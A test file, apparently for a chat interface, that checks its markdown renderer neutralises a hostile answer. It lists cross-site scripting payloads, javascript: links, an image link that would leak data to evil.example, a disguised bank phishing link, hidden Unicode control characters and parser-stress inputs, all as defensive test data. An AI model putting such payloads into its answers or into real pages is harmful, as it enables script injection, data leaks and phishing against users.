import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import type { Browser } from 'playwright-core';
import { launchBrowser, unpackTimeoutMs } from './browser.ts';
import { type BuiltPage, buildPage } from './built-page.ts';
import { askAndWait, type OpenedPage, openPage } from './opened-page.ts';
import { type PageServer, startPageServer } from './page-server.ts';

const attacks = [
  '<img src=x onerror="window.hacked = 1">',
  '<script>window.hacked = 1</script>',
  '<iframe src="https://evil.example"></iframe><svg onload="window.hacked = 1">',
  '![secret](https://evil.example/?q=code)',
  '![][pixel]\n\n[pixel]: https://evil.example/pixel.png',
  '[x](javascript:window.hacked=1) [y](JaVaScRiPt&#58;window.hacked=1) [z](data:text/html,hacked)',
  '[r][bad]\n\n[bad]: javascript:window.hacked=1',
  '<javascript:window.hacked=1> [relative](/docs) [odd](//evil.example) [vb](vbscript:x)',
  '````\n```\n<img src=x>\n```\n````',
  '# <b onclick="window.hacked = 1">bold</b>',
  '| <img src=x> |\n|---|\n| [x](javascript:1) |',
];

describe('an answer that means harm', () => {
  let built: BuiltPage;
  let browser: Browser;
  let server: PageServer;
  let opened: OpenedPage;

  beforeAll(async () => {
    [built, browser] = await Promise.all([buildPage(), launchBrowser()]);
  }, unpackTimeoutMs);
  beforeEach(async () => {
    server = await startPageServer(built);
    opened = await openPage({ browser, server });
  });
  afterEach(async () => {
    await opened.close();
    await server.close();
  });
  afterAll(async () => {
    await browser.close();
    await built.remove();
  });

  const answerText = async () => `${await opened.page.locator('.answer').textContent()}`;

  it('is shown as text: no element of its own, no picture, no address but ordinary ones', async () => {
    server.answerWith({ pieces: [...attacks.join('\n\n'), '\n\n[good](https://example.org/a?b=1&amp;c=2)'] });
    await askAndWait(opened.page);
    const answer = opened.page.locator('.markdown');
    expect(await answer.locator('img, script, iframe, svg:not(.icon), b, [onclick], [onerror]').count()).toBe(
      0,
    );
    const links = await answer.locator('a').all();
    expect(await Promise.all(links.map((link) => link.getAttribute('href')))).toEqual([
      'https://example.org/a?b=1&c=2',
    ]);
    expect(await links[0]!.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(await opened.page.evaluate('typeof window.hacked')).toBe('undefined');
    expect(await answerText()).toContain('[image not loaded: secret]');
    expect(await answerText()).toContain('<script>window.hacked = 1</script>');
    expect(opened.complaints).toEqual([]);
  });

  it('says where a link leads when its words do not', async () => {
    server.answerWith({ pieces: ['[your bank](https://evil.example/login)'] });
    await askAndWait(opened.page);
    expect(await answerText()).toContain('your bank (evil.example)');
  });

  it('makes hidden characters in code visible', async () => {
    server.answerWith({ pieces: ['```js\nif (admin\u202e) { }\u200b\n```'] });
    await askAndWait(opened.page);
    expect(await answerText()).toContain('if (adminU+202E) { }U+200B');
  });

  it.each([
    { what: 'nested without end', text: '>'.repeat(10_000) },
    { what: 'nested emphasis', text: `${'*a _b '.repeat(200)}c${'_ *'.repeat(200)}` },
    { what: 'longer than is parsed', text: 'word '.repeat(60_000) },
  ])('is shown as it is when $what', async ({ text }) => {
    server.answerWith({ pieces: [text] });
    await askAndWait(opened.page);
    expect((await answerText()).length).toBeGreaterThan(500);
    expect(opened.complaints).toEqual([]);
  });

  it('keeps the outline of the page whole whatever headings it has', async () => {
    server.answerWith({ pieces: ['#### deep\n\n# high\n\n### lower\n\n> # quoted'] });
    await askAndWait(opened.page);
    const headings = opened.page.locator('.markdown :is(h1, h2, h3, h4, h5, h6)');
    const tags = await Promise.all(
      (await headings.all()).map((heading) => heading.evaluate((node) => node.tagName)),
    );
    expect(tags).toEqual(['H3', 'H3', 'H4']);
  });
});
